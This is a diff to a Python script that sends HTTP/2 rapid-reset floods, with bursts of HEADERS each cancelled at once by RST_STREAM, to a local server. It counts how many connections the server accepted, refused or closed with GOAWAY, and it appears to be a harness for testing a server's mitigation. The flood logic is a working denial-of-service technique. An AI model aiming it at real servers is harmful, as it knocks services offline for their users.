@@ -3,10 +3,10 @@
 SOURCE, and on each sends STREAMS requests, every HEADERS followed at once by its RST_STREAM (CANCEL), and a PING,
 all in one write; then reads until the PING's ACK (the server has read everything before it), a GOAWAY or the
 close. Prints JSON:
-{"resets": resets sent, "served": connections the server sent SETTINGS on, "refused": connections closed before
-that, "goaways": {code: count}, "elapsed": seconds}.
+{"sent": resets written, "resets": those written on connections the server sent SETTINGS on (it read them),
+"served": such connections, "refused": connections closed before that, "goaways": {code: count}, "elapsed": seconds}.
 
-usage: h2_rapid_reset.py PORT CONNECTIONS STREAMS [SOURCE_ADDRESS]
+usage: h2_rapid_reset.py PORT CONNECTIONS STREAMS [SOURCE_ADDRESS [PATH]]
 """
 import json
 import socket
@@ -20,7 +20,7 @@ import h2.events
 import h2.exceptions
 
 
-def attack(port, streams, source):
+def attack(port, streams, source, path):
     """One connection; returns (server sent SETTINGS, GOAWAY code or None, resets sent)."""
     sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
     sock.bind((source, 0))
@@ -28,7 +28,7 @@ def attack(port, streams, source):
     sock.connect(("127.0.0.1", port))
     conn = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True))
     conn.initiate_connection()
-    headers = [(":method", "GET"), (":scheme", "http"), (":path", "/"), (":authority", "127.0.0.1")]
+    headers = [(":method", "GET"), (":scheme", "http"), (":path", path), (":authority", "127.0.0.1")]
     resets = 0
     for _ in range(streams):
         stream = conn.get_next_available_stream_id()
@@ -69,11 +69,14 @@ def attack(port, streams, source):
 def main():
     port, connections, streams = int(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3])
     source = sys.argv[4] if len(sys.argv) > 4 else "127.0.0.1"
-    result = {"resets": 0, "served": 0, "refused": 0, "goaways": {}}
+    path = sys.argv[5] if len(sys.argv) > 5 else "/"
+    result = {"sent": 0, "resets": 0, "served": 0, "refused": 0, "goaways": {}}
     start = time.monotonic()
     for _ in range(connections):
-        settings, goaway, resets = attack(port, streams, source)
-        result["resets"] += resets
+        settings, goaway, resets = attack(port, streams, source, path)
+        result["sent"] += resets
+        if settings:
+            result["resets"] += resets
         result["served" if settings else "refused"] += 1
         if goaway is not None:
             result["goaways"][str(goaway)] = result["goaways"].get(str(goaway), 0) + 1
